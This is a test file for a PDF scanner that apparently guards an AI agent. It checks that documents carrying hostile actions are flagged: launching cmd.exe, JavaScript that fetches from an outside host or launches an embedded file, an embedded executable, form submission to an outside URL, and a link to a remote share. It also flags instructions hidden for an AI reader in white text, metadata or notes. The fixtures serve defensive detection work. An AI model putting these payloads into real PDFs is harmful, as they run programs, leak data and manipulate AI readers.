import { deflateSync } from 'node:zlib';

import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';

import { pdfContents } from '../../../src/skills/files/pdf/pdf-actions.js';
import { readPdf } from '../../../src/skills/files/pdf/pdf-streams.js';
import { shownWords, stringAt } from '../../../src/skills/files/pdf/pdf-strings.js';
import { judged, ORDER } from './inner-files.js';

function pdf(...objects: readonly (string | Buffer)[]): Uint8Array {
  const parts = objects.flatMap((body, index) => [
    Buffer.from(`${String(index + 1)} 0 obj\n`),
    Buffer.from(body),
    Buffer.from('\nendobj\n'),
  ]);
  return new Uint8Array(Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\0\n', 'latin1'), ...parts, Buffer.from('trailer\n%%EOF\n')]));
}

function stream(data: string | Uint8Array, dictionary = ''): Buffer {
  const packed = deflateSync(data);
  return Buffer.concat([
    Buffer.from(`<< /Filter /FlateDecode ${dictionary} /Length ${String(packed.length)} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream'),
  ]);
}

const verdictOf = (...objects: readonly (string | Buffer)[]): string => judged('assets/form.pdf', pdf(...objects)).verdict;

/** Words in codes of two bytes, as fonts of many letters have them, with the map that says what the codes stand for. */
function inCodes(words: string, shift: number): { readonly digits: string; readonly map: string } {
  const letters = [...new Set(words)];
  const codeOf = (letter: string): string => (letters.indexOf(letter) + shift).toString(16).padStart(4, '0');
  const pairs = letters.map((letter) => `<${codeOf(letter)}> <${letter.charCodeAt(0).toString(16).padStart(4, '0')}>`);
  return {
    digits: [...words].map(codeOf).join(''),
    map: `/CIDInit /ProcSet findresource begin begincmap\n${String(pairs.length)} beginbfchar\n${pairs.join('\n')}\nendbfchar endcmap`,
  };
}

describe('a PDF', () => {
  it('is read by the maps of its fonts', () => {
    const { digits, map } = inCodes(ORDER, 3);
    expect(verdictOf('<< /Type /Catalog >>', stream(map), stream(`BT /F1 12 Tf <${digits}> Tj ET`))).toBe('FAIL');
  });

  it('is read by the map of the font that is chosen, where two fonts share their codes', () => {
    const [order, other] = [inCodes(ORDER, 3), inCodes('zyxwvutsrqponmlkjihgfedcba ZYXWVUTSRQPONMLKJIHGFEDCBA.,:/~-_0123456789', 3)];
    const objects = [
      '<< /Type /Page /Resources << /Font << /F1 4 0 R /F2 5 0 R >> >> >>',
      stream(other.map),
      stream(order.map),
      '<< /Type /Font /Subtype /Type0 /ToUnicode 2 0 R >>',
      '<< /Type /Font /Subtype /Type0 /ToUnicode 3 0 R >>',
      stream(`BT /F2 12 Tf [<${order.digits.slice(0, 40)}> -20 <${order.digits.slice(40)}>] TJ ET`),
    ];
    expect(verdictOf(...objects)).toBe('FAIL');
  });

  it('is read by ranges of codes', () => {
    const digits = Array.from(ORDER, (letter) => (letter.charCodeAt(0) - 29).toString(16).padStart(4, '0')).join('');
    const map = 'begincmap 1 beginbfrange <0003> <0061> <0020> endbfrange endcmap';
    expect(verdictOf(stream(map), stream(`BT <${digits}> Tj ET`))).toBe('FAIL');
  });

  it('is left as it is where no map knows its codes', () => {
    expect(verdictOf(stream('begincmap 1 beginbfchar <0003> <0041> endbfchar'), stream(`BT (${ORDER}) Tj ET`))).toBe('FAIL');
  });

  it('survives maps that do not end, overlap or run to the last code', () => {
    const maps = ['beginbfchar <00', 'beginbfrange <0000> <ffff> <ffff>', 'beginbfchar '.repeat(20_000), 'beginbfrange <00> <ff> [<00>'];
    expect(verdictOf(...maps.map((map) => stream(map)), stream('BT <0000ffff> Tj ET'))).toBe('PASS');
  });

  it.each([
    ['starts a program', '<< /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>'],
    ['starts a program out of an object stream', stream('5 0 << /OpenAction << /S /Launch /F (cmd.exe) >> >>', '/Type /ObjStm')],
    ['runs a script that fetches', '<< /OpenAction << /S /JavaScript /JS (app.launchURL\\("https://cdn.inner-files.net/a", true\\)) >> >>'],
    [
      'runs a script out of an object stream',
      stream('5 0 << /OpenAction << /S /JavaScript /JS (this.exportDataObject\\({nLaunch:2}\\)) >> >>', '/Type /ObjStm'),
    ],
    ['holds a program', stream(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(3000)]), '/Type /EmbeddedFile')],
    ['gives orders on its pages', stream(`BT 1 1 1 rg (${ORDER}) Tj ET`)],
    ['gives orders in pieces', stream(`BT [(${ORDER.slice(0, 20)})-20(${ORDER.slice(20, 60)})12(${ORDER.slice(60)})] TJ ET`)],
    ['gives orders in hexadecimal strings', stream(`BT <${Buffer.from(ORDER).toString('hex')}> Tj ET`)],
    [
      'gives orders letter by letter',
      stream(`BT ${[...Buffer.from(ORDER)].map((byte) => `(${String.fromCharCode(byte)}) Tj`).join(' ')} ET`),
    ],
    [
      'gives orders in its metadata',
      `<< /Type /Metadata /Subtype /XML /Length 9 >>\nstream\n<x:xmpmeta><dc:description>${ORDER}</dc:description></x:xmpmeta>\nendstream`,
    ],
    ['gives orders in a note', `<< /Type /Annot /Contents (${ORDER}) >>`],
    ['gives orders in its title', `<< /Title (${ORDER}) >>`],
  ])('fails when it %s', (_, object) => {
    expect(verdictOf('<< /Type /Catalog >>', object)).toBe('FAIL');
  });

  it.each([
    ['writes the names of its actions with numbers', '<< /Open#41ction << /S /#4a#61vaScript /#4a#53 (app.alert\\(1\\)) >> >>'],
    [
      'sends its fields away when it is opened',
      '<< /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://in.inner-files.net/f) >> >> >>',
    ],
    ['reaches for a share', '<< /AA << /O << /S /GoToE /F (\\\\\\\\203.7.32.99\\\\s\\\\x.pdf) >> >> >>'],
  ])('warns when it %s', (_, object) => {
    expect(verdictOf(object)).toBe('WARN');
  });

  it.each([
    ['opens at its first page', '<< /Type /Catalog /OpenAction [3 0 R /Fit] >>'],
    ['links to a site', '<< /A << /S /URI /URI (https://www.contoso.com) >> >>'],
    ['formats and sums its fields', '<< /AA << /C << /S /JavaScript /JS (AFSimple_Calculate\\("SUM", new Array\\("a"\\)\\);) >> >> >>'],
    ['carries an invoice in XML', stream('<Invoice/>', '/Type /EmbeddedFile')],
    ['tells people what to do', stream('BT (Read the handbook, sign the form and send it to the office.) Tj ET')],
  ])('passes when it %s', (_, object) => {
    expect(verdictOf('<< /Type /Catalog >>', object)).toBe('PASS');
  });
});

describe('reading a PDF', () => {
  it('undoes the filters that write bytes as letters', () => {
    const packed = '<< /Filter [/ASCII85Decode] /Length 9 >>\nstream\n87cURD]i,"Ebo80~>\nendstream';
    expect(readPdf(pdf(packed)).streams.map(({ data }) => data.toString('latin1').replace(/\0+$/, ''))).toEqual(['Hello World!']);
    const digits = '<< /Filter /ASCIIHexDecode /Length 9 >>\nstream\n48656c6c6f>\nendstream';
    expect(readPdf(pdf(digits)).streams.map(({ data }) => data.toString('latin1'))).toEqual(['Hello']);
  });

  it('stops unpacking at its bound', () => {
    const { streams } = readPdf(pdf(stream(Buffer.alloc(40 * 1024 * 1024))));
    expect(streams.map(({ data }) => data.length)).toEqual([0]);
  });

  it('knows escapes, nested parentheses and UTF-16 in strings', () => {
    expect(stringAt('(a\\(b\\)(c)\\101)', 0)).toEqual({ value: 'a(b)(c)A', end: 15 });
    expect(stringAt('<FEFF00480069>', 0)?.value).toBe('Hi');
    expect(stringAt('<< /A 1 >>', 0)).toBeUndefined();
  });

  it('joins what a line shows in pieces and keeps wide gaps', () => {
    expect(shownWords('[(one)-20(two)-600(three)] TJ')).toBe('onetwo three');
  });

  it('never fails, whatever the bytes', () => {
    const noise = fc.string({
      unit: fc.constantFrom('(', ')', '<', '>', '[', ']', '\\', 'stream\n', 'endstream', ' obj', '1 0', '/JS', '/S /Launch', 'a'),
      maxLength: 300,
    });
    fc.assert(
      fc.property(noise, (text) => {
        expect(Array.isArray(pdfContents(Buffer.from(`%PDF-1.4\n${text}`)).texts)).toBe(true);
      }),
    );
  });
});
